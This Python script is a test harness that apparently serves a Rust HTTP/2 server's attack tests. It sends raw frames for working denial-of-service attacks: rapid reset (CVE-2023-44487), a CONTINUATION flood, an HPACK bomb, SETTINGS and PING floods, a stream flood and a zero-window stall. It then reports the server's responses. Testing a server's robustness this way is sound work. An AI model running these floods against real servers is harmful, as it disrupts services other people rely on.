"""HTTP/2 attacks on weft's server side, from raw frames (PyPI `hyperframe` and `hpack`,
which come with `h2`), for crates/weft/tests/attacks.rs.

    python3 h2_attacks.py HOST:PORT ATTACK [SECONDS]

Prints one JSON line: the frames weft sent back by type, the GOAWAY error codes (RFC 9113
section 7) with their debug data, RST_STREAM error codes, how many frames were sent, and
whether weft stopped reading (the send stalled: TCP back-pressure).
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(addr, settings=None):
    host, port = addr.rsplit(":", 1)
    c = socket.create_connection((host, int(port)))
    c.settimeout(5)
    c.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return c


def request(enc, path="/"):
    return enc.encode(
        [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "books")]
    )


def send_all(c, frames, limit=65536):
    """Sends serialized frames in batches; returns (sent, stalled)."""
    buf, sent = b"", 0
    for f in frames:
        buf += f
        sent += 1
        if len(buf) >= limit:
            try:
                c.sendall(buf)
            except socket.timeout:
                return sent, True
            except OSError:
                return sent, False
            buf = b""
    try:
        c.sendall(buf)
    except socket.timeout:
        return sent, True
    except OSError:
        pass
    return sent, False


def read_frames(c, seconds=3):
    c.settimeout(seconds)
    out = b""
    try:
        while True:
            d = c.recv(1 << 20)
            if not d:
                break
            out += d
    except OSError:
        pass
    frames, i = [], 0
    while i + 9 <= len(out):
        f, n = Frame.parse_frame_header(memoryview(out[i : i + 9]))
        if i + 9 + n > len(out):
            break
        f.parse_body(memoryview(out[i + 9 : i + 9 + n]))
        frames.append(f)
        i += 9 + n
    return frames


def report(frames, sent=0, stalled=False):
    kinds = {}
    for f in frames:
        kinds[type(f).__name__] = kinds.get(type(f).__name__, 0) + 1
    return {
        "frames": kinds,
        "goaway": [
            [f.error_code, f.additional_data.decode("latin-1")]
            for f in frames
            if isinstance(f, GoAwayFrame)
        ],
        "resets": sorted(
            {f.error_code for f in frames if isinstance(f, RstStreamFrame)}
        ),
        "sent": sent,
        "stalled": stalled,
    }


def rapid_reset(addr, _):
    """CVE-2023-44487: streams opened and reset at once, in a loop."""
    c, enc = connect(addr), Encoder()

    def frames():
        for i in range(20000):
            sid = 2 * i + 1
            yield HeadersFrame(sid, request(enc), flags=["END_HEADERS", "END_STREAM"]).serialize()
            yield RstStreamFrame(sid, error_code=8).serialize()

    sent, stalled = send_all(c, frames())
    return report(read_frames(c), sent, stalled)


def continuation_flood(addr, _):
    """A header block that never ends: CONTINUATION frames without END_HEADERS (2024)."""
    c, enc = connect(addr), Encoder()
    block = enc.encode([("x-filler", "a" * 100)])

    def frames():
        yield HeadersFrame(1, request(enc), flags=[]).serialize()
        for _ in range(100000):
            yield ContinuationFrame(1, block, flags=[]).serialize()

    sent, stalled = send_all(c, frames())
    return report(read_frames(c), sent, stalled)


def hpack_bomb(addr, _):
    """A small header block that decodes huge: a 4 KB value in the dynamic table, then a
    block of 14,000 one-byte references to it (56 MB decoded from 14 KB)."""
    c, enc = connect(addr), Encoder()
    first = request(enc) + enc.encode([("x-big", "a" * 4000)])
    c.sendall(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    # Dynamic table index 62 is the newest entry (RFC 7541 section 2.3.3).
    bomb = request(enc) + bytes([0x80 | 62]) * 14000
    c.sendall(HeadersFrame(3, bomb, flags=["END_HEADERS", "END_STREAM"]).serialize())
    return report(read_frames(c))


def flood(make):
    def attack(addr, seconds):
        """Frames the server must answer, from a client that never reads the answers."""
        c = connect(addr)
        c.settimeout(2)
        sent, stalled = send_all(c, (make() for _ in range(200000)))
        time.sleep(float(seconds or 0))
        return report([], sent, stalled)

    return attack


settings_flood = flood(
    lambda: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
)
ping_flood = flood(lambda: PingFrame(0, opaque_data=b"weftweft").serialize())


def too_many_streams(addr, _):
    """1,000 concurrent requests on one connection, to a slow path."""
    c, enc = connect(addr), Encoder()
    frames = (
        HeadersFrame(2 * i + 1, request(enc, "/slow"), flags=["END_HEADERS", "END_STREAM"]).serialize()
        for i in range(1000)
    )
    sent, stalled = send_all(c, frames)
    return report(read_frames(c, 5), sent, stalled)


def zero_window(addr, seconds):
    """A reader that grants no flow-control window and never reads: the response body has
    nowhere to go (RFC 9113 section 6.9)."""
    c, enc = connect(addr, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}), Encoder()
    c.sendall(HeadersFrame(1, request(enc, "/big"), flags=["END_HEADERS", "END_STREAM"]).serialize())
    time.sleep(float(seconds or 3))
    return report([])


if __name__ == "__main__":
    addr, attack = sys.argv[1], sys.argv[2]
    seconds = sys.argv[3] if len(sys.argv) > 3 else None
    print(json.dumps(globals()[attack](addr, seconds)), flush=True)
